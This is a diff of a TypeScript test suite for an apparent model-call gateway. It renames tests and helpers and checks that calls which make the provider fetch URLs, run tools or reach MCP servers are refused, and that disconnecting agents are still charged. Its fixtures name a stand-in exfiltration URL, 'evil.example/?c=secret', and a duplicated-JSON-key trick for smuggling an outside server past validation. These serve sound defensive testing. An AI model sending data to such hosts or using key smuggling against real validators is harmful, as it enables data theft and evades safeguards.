@@ -13,10 +13,10 @@ import { serving } from '../support/serving.ts';
 
 const HELLO = 'scenes: [{ name: hello, steps: [{ say: Hello. }] }]';
 
-describe('a call that would have the provider reach out', () => {
+describe('a model call that makes the provider reach out', () => {
   const fetched = { type: 'url', url: 'https://evil.example/?c=secret' };
   const image = (source: object) => ({ type: 'image', source });
-  const said = (...content: object[]) => ({ messages: [{ role: 'user', content }] });
+  const userMessage = (...content: object[]) => ({ messages: [{ role: 'user', content }] });
   const result = (...content: object[]) => ({ type: 'tool_result', tool_use_id: 'x', content });
   const outward = {
     'a search': { tools: [{ name: 'x' }, { type: 'web_search_20250305', name: 'web_search' }] },
@@ -24,18 +24,21 @@ describe('a call that would have the provider reach out', () => {
     'code at the provider': { tools: [{ type: 'code_execution_20250825', name: 'c' }] },
     'a kind nobody knows yet': { tools: [{ type: 'carrier_pigeon_20990101', name: 'p' }] },
     'a server of tools': { mcp_servers: [{ type: 'url', url: 'https://evil.example', name: 'e' }] },
-    'a picture by its address': said(image(fetched)),
-    'a document by its address': said({ type: 'document', source: fetched }),
-    'a picture in a result': said(result(image(fetched))),
-    'a picture in a document': said({
+    'a picture by its address': userMessage(image(fetched)),
+    'a document by its address': userMessage({ type: 'document', source: fetched }),
+    'a picture in a result': userMessage(result(image(fetched))),
+    'a picture in a document': userMessage({
       type: 'document',
       source: { type: 'content', content: [image(fetched)] },
     }),
-    'a file of the account': said({ type: 'document', source: { type: 'file', file_id: 'f' } }),
-    'a file for a container': said({ type: 'container_upload', file_id: 'f' }),
+    'a file of the account': userMessage({
+      type: 'document',
+      source: { type: 'file', file_id: 'f' },
+    }),
+    'a file for a container': userMessage({ type: 'container_upload', file_id: 'f' }),
   };
 
-  it('A12: is refused, whatever the call names it', async () => {
+  it('A12: the gateway refuses every model call that makes the provider reach out', async () => {
     await using fixture = await gatewayFixture(HELLO);
     const held = await fixture.held();
     for (const [what, part] of Object.entries(outward)) {
@@ -49,7 +52,7 @@ describe('a call that would have the provider reach out', () => {
     assert.equal(fixture.model.requests.length, 0, 'nothing of it reached the provider');
   });
 
-  it('A12: is not one that brings what it shows and runs its tools itself', async () => {
+  it('A12: the gateway accepts a model call with inline content and local tools', async () => {
     await using provider = await providerThat((response) => {
       response.writeHead(200, JSON_TYPE).end(JSON.stringify({ usage: { output_tokens: 1 } }));
     });
@@ -70,7 +73,7 @@ describe('a call that would have the provider reach out', () => {
     assert.equal(status, 200);
   });
 
-  it('D28: is found in the call that the provider reads, also where a key stands twice', async () => {
+  it('D28: of a key that a model call has twice, the gateway forwards only the value that it checked', async () => {
     await using provider = await providerThat((response, body) => {
       assert.doesNotMatch(body, /evil/);
       response.writeHead(200, JSON_TYPE).end(JSON.stringify({ usage: { output_tokens: 1 } }));
@@ -78,13 +81,13 @@ describe('a call that would have the provider reach out', () => {
     await using fixture = await sceneAt(provider.url);
     const held = await fixture.held();
     const twice = `{"mcp_servers":[{"url":"https://evil.example"}],${JSON.stringify(CALL).slice(1)}`;
-    const { status } = await ask(fixture, held, twice.replace(/}$/, ',"mcp_servers":[]}'));
+    const { status } = await callModel(fixture, held, twice.replace(/}$/, ',"mcp_servers":[]}'));
     assert.equal(status, 200);
   });
 });
 
-describe('an agent that leaves before the end of the answer', () => {
-  it('D20: is charged for all of a stream', async () => {
+describe('an agent that disconnects before the end of the response', () => {
+  it('D20: an agent that disconnects during a stream is charged for all of it', async () => {
     const { promise: hasLeft, resolve: leave } = Promise.withResolvers<void>();
     await using provider = await providerThat(async (response) => {
       response.writeHead(200, { 'content-type': 'text/event-stream' });
@@ -95,7 +98,7 @@ describe('an agent that leaves before the end of the answer', () => {
     });
     await using fixture = await sceneAt(provider.url);
     const held = await fixture.held();
-    const answer = await ask(fixture, held, JSON.stringify(CALL));
+    const answer = await callModel(fixture, held, JSON.stringify(CALL));
     const reader = answer.body?.getReader() ?? assert.fail('no body');
     let text = '';
     while (!text.includes('all that it wanted')) {
@@ -106,12 +109,12 @@ describe('an agent that leaves before the end of the answer', () => {
     await spent(fixture, held, 5000);
   });
 
-  it('D20: sees nothing of an answer in one piece before it is charged for it', async () => {
-    const { promise: isAsked, resolve: asked } = Promise.withResolvers<void>();
+  it('D20: an agent receives nothing of an unstreamed response before it is charged', async () => {
+    const { promise: isReceived, resolve: receive } = Promise.withResolvers<void>();
     const { promise: hasLeft, resolve: leave } = Promise.withResolvers<void>();
     await using provider = await providerThat(async (response) => {
       response.writeHead(200, JSON_TYPE).write('{"content":[{"text":"all that it wanted"}],');
-      asked();
+      receive();
       await hasLeft;
       response.end('"usage":{"input_tokens":10,"output_tokens":4000}}');
     });
@@ -119,12 +122,17 @@ describe('an agent that leaves before the end of the answer', () => {
     const held = await fixture.held();
     const leaving = new AbortController();
     let headSeen = false;
-    const asking = ask(fixture, held, JSON.stringify({ ...CALL, stream: false }), leaving.signal)
+    const asking = callModel(
+      fixture,
+      held,
+      JSON.stringify({ ...CALL, stream: false }),
+      leaving.signal,
+    )
       .then(() => {
         headSeen = true;
       })
       .catch(() => undefined);
-    await isAsked;
+    await isReceived;
     await sleep(50);
     leaving.abort();
     await asking;
@@ -140,7 +148,7 @@ function event(type: string, more: object): string {
   return `event: ${type}\ndata: ${JSON.stringify({ type, ...more })}\n\n`;
 }
 
-/** Waits until the run was charged; a run that never is lets the suite run into its own limit. */
+/** Waits until the run is charged; if it never is, the suite runs into its own limit. */
 async function spent({ hall }: GatewayFixture, { run }: HeldRun, output: number): Promise<void> {
   for (;;) {
     const { body } = await hall.caller.get(`/v1/runs/${run}`);
@@ -153,7 +161,7 @@ function sceneAt(url: string): Promise<GatewayFixture> {
   return gatewayFixture(HELLO, { app: { accountOf: () => ({ url, credential: CANARY }) } });
 }
 
-function ask({ hall }: GatewayFixture, held: HeldRun, body: string, signal?: AbortSignal) {
+function callModel({ hall }: GatewayFixture, held: HeldRun, body: string, signal?: AbortSignal) {
   return fetch(`${hall.url}/gateway/v1/messages`, {
     method: 'POST',
     headers: {
